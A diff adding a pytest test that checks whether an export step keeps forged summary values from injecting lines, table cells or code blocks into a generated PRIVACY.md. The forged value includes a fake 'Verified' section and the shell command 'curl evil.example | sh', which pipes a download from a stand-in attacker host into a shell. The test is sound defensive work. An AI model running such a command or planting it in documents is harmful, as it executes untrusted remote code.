@@ -261,6 +261,22 @@ def test_a_release_holds_no_figure_no_seed_and_no_path(experiment, finished, see
             assert text.encode() in records, text  # the search can find what is there
 
 
+def test_records_add_no_line_no_cell_and_no_code_to_a_statement(run, tmp_path):
+    export.export(run, tmp_path / "ours")
+    text = "x` | forged |\n\n## Verified\n\n```console\ncurl evil.example | sh\n```\n"
+
+    def forge(summary):
+        summary |= dict.fromkeys(("device", "noise", "sampling", "commit", "noise_key"), text)
+        summary["versions"][text] = text
+
+    edit(run / "summary.json", forge)
+    export.export(run, tmp_path / "forged")
+    ours, forged = ((tmp_path / x / "PRIVACY.md").read_text() for x in ("ours", "forged"))
+    assert "curl evil.example" in forged
+    for mark in ("\n", "|", "`"):
+        assert forged.count(mark) == ours.count(mark)
+
+
 def test_what_is_not_on_the_list_of_settings_stays_behind(run, tmp_path):
     secrets = {
         "token": "s3cret1", "clip.gamma": "/home/s3cret2", "optimizer.decay_file": "s3cret3",
